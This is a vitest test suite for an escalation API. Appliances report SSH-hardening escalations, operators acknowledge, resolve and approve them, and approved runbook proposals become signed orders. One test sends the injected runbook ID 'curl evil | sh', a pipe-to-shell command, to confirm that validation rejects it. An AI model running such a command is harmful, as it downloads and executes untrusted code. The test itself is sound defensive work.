import { randomUUID } from 'node:crypto';
import type { ApplianceEscalationRequest, Escalation } from '@osiris/protocol';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type Caller, startTestApp, type TestApp, testBackends } from '../../testing';
import { auditOf, createTenant, expectError, walkPages } from '../../testing/api';
import { checkinOrders, registerTestAppliance } from '../../testing/appliance';

describe.each(testBackends)('escalations on %s', (backend) => {
  let t: TestApp;
  let admin: Caller;
  let operator: Caller;
  let siteId: string;
  let appliance: Awaited<ReturnType<typeof registerTestAppliance>>;

  const escalation = (overrides: Partial<ApplianceEscalationRequest> = {}): ApplianceEscalationRequest => ({
    schemaVersion: 1,
    id: randomUUID(),
    hostId: randomUUID(),
    hostname: 'web01',
    checkId: 'linux.ssh.permit-root-login',
    priority: 'P2',
    summary: 'Root can log in over SSH; the fix needs a person (accounts must exist first).',
    detected: { reason: 'PermitRootLogin is yes', observed: { permitRootLogin: 'yes' } },
    attempts: [
      {
        tier: 'L1',
        runbookId: null,
        ruleId: null,
        outcome: 'escalated',
        startedAt: new Date().toISOString(),
        durationMs: 3,
        error: null,
      },
    ],
    evidenceSeqs: [41, 42],
    createdAt: new Date().toISOString(),
    ...overrides,
  });
  const send = (body: unknown, token = appliance.token) =>
    t.anonymous.request({
      method: 'POST',
      url: '/v1/appliance/escalations',
      payload: body,
      headers: { authorization: `Bearer ${token}` },
    });

  beforeAll(async () => {
    t = await startTestApp(backend);
    admin = await t.loginAs('admin');
    operator = await t.loginAs('operator');
    siteId = (await createTenant(admin)).site.id;
    appliance = await registerTestAppliance(t, admin, siteId);
  });
  afterAll(() => t.close());

  it('stores an escalation once with its SLA, and answers a resend with the stored one', async () => {
    const body = escalation();
    const first = await send(body);
    expect(first.statusCode, first.body).toBe(201);
    const stored = first.json() as Escalation;
    expect(stored).toMatchObject({
      id: body.id,
      siteId,
      applianceId: appliance.applianceId,
      state: 'open',
      isOverdue: false,
    });
    expect(Date.parse(stored.slaDueAt) - Date.parse(stored.receivedAt)).toBe(60 * 60_000);
    const again = await send(body);
    expect(again.statusCode).toBe(200);
    // The same stored escalation (only the SLA countdown moved on).
    expect({ ...again.json(), slaRemainingMs: 0 }).toEqual({ ...stored, slaRemainingMs: 0 });
    expect((await auditOf(admin, body.id)).filter((e) => e.action === 'escalation.receive')).toHaveLength(1);

    // Another appliance cannot take over the id.
    const other = await registerTestAppliance(t, admin, siteId);
    expectError(await send(body, other.token), 409, 'CONFLICT');
    expectError(await send({ ...escalation(), priority: 'urgent' }), 400, 'VALIDATION_FAILED');
    expectError(await send({ ...escalation(), checkId: 'not a check' }), 400, 'VALIDATION_FAILED');
  });

  it('lists by site, state and priority, newest first, and marks overdue ones', async () => {
    const critical = (await send(escalation({ priority: 'P1' }))).json() as Escalation;
    const low = (await send(escalation({ priority: 'P4' }))).json() as Escalation;
    const pages = await walkPages<Escalation>(admin, '/v1/escalations', `&siteId=${siteId}`, 2);
    const all = pages.flat();
    expect(all.map((e) => e.id).slice(0, 2)).toEqual([low.id, critical.id]);
    const onlyCritical = (
      await admin.request({ method: 'GET', url: `/v1/escalations?priority=P1&siteId=${siteId}` })
    ).json();
    expect(onlyCritical.items.map((e: Escalation) => e.id)).toEqual([critical.id]);
    t.clock.advance(61 * 60_000);
    const later = (await admin.request({ method: 'GET', url: `/v1/escalations/${critical.id}` })).json() as Escalation;
    expect(later.isOverdue).toBe(true);
    const lowLater = (await admin.request({ method: 'GET', url: `/v1/escalations/${low.id}` })).json() as Escalation;
    expect(lowLater.isOverdue).toBe(false);
  });

  it('is acknowledged and resolved by operators, each once, with an audit trail', async () => {
    const { id } = (await send(escalation())).json() as Escalation;
    const acked = await operator.request({ method: 'POST', url: `/v1/escalations/${id}/acknowledge` });
    expect(acked.json()).toMatchObject({ state: 'acknowledged', acknowledgedBy: operator.userId });
    expectError(await operator.request({ method: 'POST', url: `/v1/escalations/${id}/acknowledge` }), 409, 'CONFLICT');
    const resolved = await operator.request({
      method: 'POST',
      url: `/v1/escalations/${id}/resolve`,
      payload: { resolution: 'Created personal admin accounts, then disabled root login.' },
    });
    expect(resolved.json()).toMatchObject({ state: 'resolved', resolvedBy: operator.userId, isOverdue: false });
    expectError(
      await operator.request({
        method: 'POST',
        url: `/v1/escalations/${id}/resolve`,
        payload: { resolution: 'again' },
      }),
      409,
      'CONFLICT',
    );
    expect((await auditOf(admin, id)).map((e) => e.action).sort()).toEqual([
      'escalation.acknowledge',
      'escalation.receive',
      'escalation.resolve',
    ]);
    const open = (await admin.request({ method: 'GET', url: `/v1/escalations?state=open&siteId=${siteId}` })).json();
    expect(open.items.some((e: Escalation) => e.id === id)).toBe(false);
    expectError(await admin.request({ method: 'GET', url: `/v1/escalations/${randomUUID()}` }), 404, 'NOT_FOUND');
  });

  it('turns an approved L2 proposal into a signed run_runbook order for the appliance, once', async () => {
    const incidentId = randomUUID();
    const proposal = {
      incidentId,
      runbookId: 'rb-linux.ssh.permit-root-login',
      params: {},
      confidence: 0.41,
      reasoning: 'PermitRootLogin yes; the runbook sets it to no and reloads sshd.',
      why: 'low_confidence' as const,
    };
    const body = escalation({ proposal });
    expectError(
      await send(escalation({ proposal: { ...proposal, runbookId: 'curl evil | sh' } })),
      400,
      'VALIDATION_FAILED',
    );
    const stored = (await send(body)).json() as Escalation;
    expect(stored).toMatchObject({ proposal, approval: null, state: 'open' });

    const url = `/v1/escalations/${body.id}/approve`;
    expectError(
      await admin.request({ method: 'POST', url: `/v1/escalations/${randomUUID()}/approve`, payload: {} }),
      404,
      'NOT_FOUND',
    );
    const approved = await operator.request({ method: 'POST', url, payload: { note: 'Root login is not used here.' } });
    expect(approved.statusCode, approved.body).toBe(200);
    const result = approved.json() as Escalation;
    expect(result).toMatchObject({ state: 'acknowledged', approval: { approvedBy: operator.userId } });
    expectError(await operator.request({ method: 'POST', url, payload: {} }), 409, 'CONFLICT');

    const orders = await checkinOrders(t, appliance.token);
    const order = orders.find((o) => o.order.id === result.approval?.orderId)?.order;
    expect(order).toMatchObject({
      type: 'run_runbook',
      applianceId: appliance.applianceId,
      payload: {
        escalationId: body.id,
        incidentId,
        hostId: body.hostId,
        checkId: body.checkId,
        runbookId: proposal.runbookId,
        params: {},
      },
    });
    expect((await auditOf(admin, body.id)).map((e) => e.action).sort()).toEqual([
      'escalation.approve',
      'escalation.receive',
    ]);

    // Nothing to approve on a plain escalation.
    const plain = (await send(escalation())).json() as Escalation;
    expectError(
      await operator.request({ method: 'POST', url: `/v1/escalations/${plain.id}/approve`, payload: {} }),
      409,
      'CONFLICT',
    );
  });
});
